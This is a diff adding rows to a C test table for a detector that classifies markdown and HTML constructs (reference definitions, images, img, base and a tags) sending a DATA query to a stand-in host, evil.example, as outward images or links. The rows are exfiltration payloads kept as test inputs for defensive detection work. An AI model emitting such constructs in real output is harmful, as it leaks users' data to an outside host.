@@ -57,6 +57,12 @@ static const row rows[] = {
     /* ---- definitions, which images may refer to ---- */
     {"![x][ref]\n\n[ref]: " EVIL "?q=" DATA "\n", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
     {"[1]: <" EVIL "?q=" DATA ">", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
+    {"[1]: //evil.example/?q=" DATA "\n", SP_KIND_OUTWARD_IMAGE, "//evil.example/?q=" DATA},
+    {"[1]:\n//evil.example/?q=" DATA "\n", SP_KIND_OUTWARD_IMAGE, "//evil.example/?q=" DATA},
+    {"![a]( //evil.example/?q=" DATA ")", SP_KIND_OUTWARD_IMAGE, "//evil.example/?q=" DATA},
+    {"<img src=' " EVIL "?q=" DATA "'>", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
+    {"<base href='" EVIL "?q=" DATA "'>", SP_KIND_OUTWARD_IMAGE, EVIL "?q=" DATA},
+    {"<a href=' " EVIL "?q=" DATA "'>", SP_KIND_OUTWARD_LINK, EVIL "?q=" DATA},
     /* ---- links ---- */
     {"[x](" EVIL "?q=" DATA ")", SP_KIND_OUTWARD_LINK, EVIL "?q=" DATA},
     {"see <" EVIL "?q=" DATA ">", SP_KIND_OUTWARD_LINK, EVIL "?q=" DATA},
